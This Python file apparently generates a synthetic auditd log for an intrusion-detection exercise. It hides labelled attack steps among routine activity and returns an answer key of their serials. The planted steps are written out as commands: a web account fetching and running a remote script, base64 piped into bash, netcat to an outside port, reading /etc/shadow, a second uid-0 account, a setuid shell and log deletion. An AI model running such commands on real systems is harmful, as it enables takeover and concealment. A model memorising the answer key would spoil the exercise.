"""audit.log: a day of a Linux host, several hundred program starts as raw auditd lines, some of them odd."""

from datetime import timedelta
from itertools import accumulate
from bisect import bisect_right

from .auditlines import exec_event, session_event
from .dice import Dice
from .world import MONDAY

NO_SESSION = 4294967295
PEOPLE = {"root": 0, "www-data": 33, "backup": 34, "postgres": 112, "ida": 1000, "jon": 1001}
SESSIONS = {"ida": (1000, 3, "pts0"), "jon": (1001, 5, "pts1")}
STARTS = 380
SOURCES = " ".join(f"src/module{i:02d}.c" for i in range(12))
LONG = "for f in " + " ".join(f"report-{i:03d}.txt" for i in range(60)) + "; do gzip $f; done"

# weight, account, program, folder, arguments split at " | "
BACKGROUND = """
30 root /usr/bin/dash / /bin/sh | -c | command -v debian-sa1 > /dev/null && debian-sa1 1 1
12 root /usr/bin/run-parts / run-parts | --report | /etc/cron.hourly
10 root /usr/sbin/xtables-nft-multi /var/lib/acme iptables | -w | -t | security | -C | OUTPUT | -d | 192.0.2.99 | -p | tcp | -j | ACCEPT
10 root /usr/bin/python3.11 /var/lib/acme python3 | -u | bin/acme-agent.py | -collect | {guid}
6 root /usr/bin/systemctl / systemctl | is-active | ssh
4 root /usr/sbin/logrotate / /usr/sbin/logrotate | /etc/logrotate.conf
3 root /usr/bin/apt-get / apt-get | -qq | -y | update
8 postgres /usr/lib/postgresql/15/bin/pg_dump /var/lib/postgresql pg_dump | -Fc | harbour | -f | /var/backups/pg/harbour-{date}-{small}.dump
8 backup /usr/bin/rsync /var/backups rsync | -a | --delete | /var/backups/pg/ | vault.harbour.test:/srv/pg/
9 www-data /usr/bin/php8.2 /srv/www php | -f | cron.php | --job={small}
10 ida /usr/bin/ls /home/ida/quay ls | --color=auto | -l
8 ida /usr/bin/git /home/ida/quay git | commit | -m | Berth plan, part {small}
6 ida /usr/bin/git /home/ida/quay git | status
6 ida /usr/bin/make /home/ida/quay make | -j4 | all
5 ida /usr/bin/x86_64-linux-gnu-gcc-12 /home/ida/quay gcc | -O2 | -Wall | -o | quay | %SOURCES%
5 ida /usr/bin/vim.basic /home/ida/quay vim | src/module{small}.c
8 jon /usr/bin/grep /home/jon grep | -rn | mooring fee | /home/jon/letters
6 jon /usr/bin/cat /home/jon cat | notes/{date}.txt
5 jon /usr/bin/ssh /home/jon ssh | ida@192.0.2.31
4 jon /usr/bin/less /home/jon less | /home/jon/Résumé.txt
3 jon /usr/bin/sudo /home/jon sudo | systemctl | status | quayside
"""

# second of the day, account, program, folder, arguments, name, why ("" = harmless, happens once)
FIXED = [
    (31000, "root", "/usr/sbin/useradd", "/root", "useradd | -m | lena", "new-colleague", ""),
    (33333, "ida", "/usr/bin/dash", "/home/ida/reports", "sh | -c | " + LONG, "long-argument", ""),
    (36100, "jon", "/usr/bin/qrencode", "/home/jon", 'qrencode | -o | qr.png | a "quoted" text', "quoted-text", ""),
    (40010, "www-data", "/usr/bin/dash", "/srv/www/up", "sh | -c | id; uname -a",
     "web-server-asks-who-it-is",
     "the account of the web server runs a shell"),
    (40022, "www-data", "/usr/bin/curl", "/srv/www/up", "curl | -s | http://203.0.113.9/x.sh | -o | /tmp/.x/x.sh",
     "curl-script",
     "the account of the web server fetches a script"),
    (40031, "www-data", "/usr/bin/bash", "/tmp/.x", "bash | -c | echo ZWNobyBoYXJtbGVzcwo= | base64 -d | bash",
     "coded-script",
     "a base64 script piped into a shell"),
    (40090, "www-data", "/tmp/.x/kworkerd", "/tmp/.x", "./kworkerd | -o | 203.0.113.9:3333", "kworkerd-in-tmp",
     "a program named like a kernel thread, in a hidden folder of /tmp"),
    (41500, "postgres", "/usr/bin/bash", "/var/lib/postgresql", "bash | -i", "database-shell",
     "the database's account opens a shell"),
    (41533, "postgres", "/usr/bin/nc.openbsd", "/var/lib/postgresql", "nc | 198.51.100.23 | 4444",
     "netcat-out",
     "a connection to outside from the database's account"),
    (52210, "jon", "/usr/bin/cat", "/home/jon", "cat | /etc/shadow", "shadow-read",
     "an ordinary user tries to read the passwords"),
    (60005, "root", "/usr/sbin/useradd", "/root", "useradd | -o | -u | 0 | -g | 0 | sysd", "second-root",
     "a second account with uid 0"),
    (60020, "root", "/usr/bin/chmod", "/tmp/.x", "chmod | u+s | /tmp/.x/bash", "setuid-shell",
     "a shell made to run as its owner"),
    (60111, "root", "/usr/sbin/sshdd", "/", "/usr/sbin/sshdd | -p | 2222", "sshdd", "one letter more than sshd"),
    (60300, "root", "/usr/bin/rm", "/root", "rm | -f | /var/log/auth.log | /var/log/wtmp", "logs-removed", "log files removed"),
]


def drawn(dice):
    """The background starts of the day, as FIXED lists them."""
    table = BACKGROUND.replace("%SOURCES%", " | ".join(SOURCES.split()))
    rows = [line.split(" ", 4) for line in table.strip().split("\n")]
    sums = list(accumulate(int(row[0]) for row in rows))
    for i in range(STARTS - len(FIXED)):
        _, account, exe, cwd, arguments = rows[bisect_right(sums, dice.below(sums[-1]))]
        values = {"guid": dice.guid(), "date": MONDAY.strftime("%Y-%m-%d"), "small": dice.between(1, 40)}
        yield 200 + i * 86000 // STARTS + dice.below(120), account, exe, cwd, arguments.format(**values), "", ""


def write_audit(file):
    """Writes the log; returns the event serials of what was planted. Some events are not program starts."""
    dice, serial, pid = Dice("audit"), 4000, 1200
    notes = {"planted": [], "harmless": []}
    for second, account, exe, cwd, arguments, name, why in sorted([*drawn(dice), *FIXED], key=lambda start: start[0]):
        begin = MONDAY + timedelta(seconds=second)
        serial, pid = serial + dice.between(1, 4), pid + dice.between(1, 30)
        stamp = f"{int(begin.timestamp())}.{dice.below(1000):03d}:"
        uid = PEOPLE[account]
        auid, ses, tty = SESSIONS.get(account, (NO_SESSION, NO_SESSION, "(none)"))
        if account in ("postgres", "backup") and not name:
            file.write(session_event(stamp + str(serial), "USER_START", pid, uid, account, "/usr/sbin/cron") + "\n")
            serial += 1
        # only the coded script has a pipe of its own; it stays inside its argument
        parts = arguments.split(" | ", 2 if name == "coded-script" else -1)
        lines = exec_event(stamp + str(serial), exe, parts, cwd, (uid, auid, ses, tty), pid, pid - 1, dice,
                           failed=name == "shadow-read")
        file.write("".join(line + "\n" for line in lines))
        if name:
            group = notes["planted"] if why else notes["harmless"]
            group.append({"serial": serial, "name": name, "why": why or "harmless, happens once"})
    return {"execEvents": STARTS, **notes}
